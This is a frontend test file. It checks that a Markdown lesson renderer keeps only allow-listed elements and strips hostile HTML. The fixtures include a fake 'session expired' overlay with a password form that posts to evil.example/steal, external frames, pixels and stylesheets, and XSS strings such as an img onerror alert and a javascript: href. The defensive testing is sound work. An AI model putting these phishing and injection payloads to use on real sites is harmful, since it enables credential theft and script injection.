import { render } from '@testing-library/react';
import { Markdown } from './markdown';
import MarkdownView from './markdown-view';

const LESSON = `## Conceptos

Un párrafo con **negrita** y *cursiva*.

- uno
- dos

3. tres
4. cuatro

> Una cita.
`;

const HOSTILE = `
<style>body { display: none }</style>
<div style="position:fixed;inset:0;z-index:9999;background:white">Su sesión expiró</div>
<form action="https://evil.example/steal"><input name="password" type="password"><button>Ingresar</button></form>
<iframe src="https://evil.example"></iframe>
<img src="https://evil.example/pixel.png">
<a href="https://evil.example">enlace</a>
<svg><style>@font-face{src:url(https://evil.example/f.woff)}</style></svg>
<link rel="stylesheet" href="https://evil.example/x.css">
<p class="sr-only" id="x" style="color:red" data-x="1" aria-hidden="true">texto</p>
`;

describe('Markdown (lesson allow-list)', () => {
  it('loads the reader when course text is shown, then shows it', async () => {
    const { findByText } = render(<Markdown source={'Un **texto**.'} />);
    expect((await findByText('texto')).tagName).toBe('STRONG');
  });

  it('keeps every element lessons use', () => {
    const { container } = render(<MarkdownView source={LESSON} />);
    const html = container.innerHTML;
    for (const tag of ['h2', 'p', 'strong', 'em', 'ul', 'ol', 'li', 'blockquote']) expect(html).toContain(`<${tag}`);
    expect(html).toContain('<ol start="3">');
    expect(container.querySelector('strong')!.textContent).toBe('negrita');
    expect(container.querySelectorAll('li')).toHaveLength(4);
  });

  it('drops style, forms, frames, images, links and every attribute but a list start, keeping the words', () => {
    const { container } = render(<MarkdownView source={HOSTILE} />);
    const root = container.firstElementChild!;
    for (const selector of ['style', 'form', 'input', 'button', 'iframe', 'img', 'a', 'svg', 'link', 'div div', '[style]', '[class]', '[id]', '[data-x]', '[aria-hidden]']) {
      expect({ selector, found: root.querySelectorAll(selector).length }).toEqual({ selector, found: 0 });
    }
    expect(root.textContent).toContain('Su sesión expiró');
    expect(root.textContent).toContain('enlace');
    expect(root.textContent).not.toContain('display: none');
    expect(root.textContent).not.toContain('@font-face');
  });

  it('reads character references and escapes as the characters they name, never as markup', () => {
    const { container } = render(<MarkdownView source={'Derechos &amp; deberes, 5 &lt; 6, \\*sin cursiva\\* y <b onclick="x()">negrita</b>'} />);
    expect(container.textContent).toBe('Derechos & deberes, 5 < 6, *sin cursiva* y negrita');
    expect(container.querySelectorAll('b, [onclick], em')).toHaveLength(0);
  });
});

describe('MarkdownTreeView (course text parsed by the API)', () => {
  it('builds the allow-listed elements and an ordered list start', () => {
    const { container } = render(<Markdown tree={[['h2', 'Título'], ['p', 'Un ', ['strong', 'texto'], ['br']], ['ol', 3, ['li', 'tres']]]} />);
    expect(container.innerHTML).toBe('<div class="prose"><h2>Título</h2><p>Un <strong>texto</strong><br></p><ol start="3"><li>tres</li></ol></div>');
  });

  it('keeps only the words of anything else: no element, attribute or markup from the tree', () => {
    const hostile = [['script', 'window.x = 1'], ['a', 'enlace'], ['p', { href: 'javascript:x' }, '<img src=x onerror=alert(1)>'], ['iframe'], 'texto'];
    const { container } = render(<Markdown tree={hostile} />);
    const root = container.firstElementChild!;
    expect(root.querySelectorAll('script, a, img, iframe, [href], [onerror]')).toHaveLength(0);
    expect(root.textContent).toBe('window.x = 1enlace<img src=x onerror=alert(1)>texto');
  });

  it('shows Markdown kept on the phone by an older build through the parser', async () => {
    const { findByText } = render(<Markdown tree={'Un **texto** antiguo.'} />);
    expect((await findByText('texto')).tagName).toBe('STRONG');
  });
});
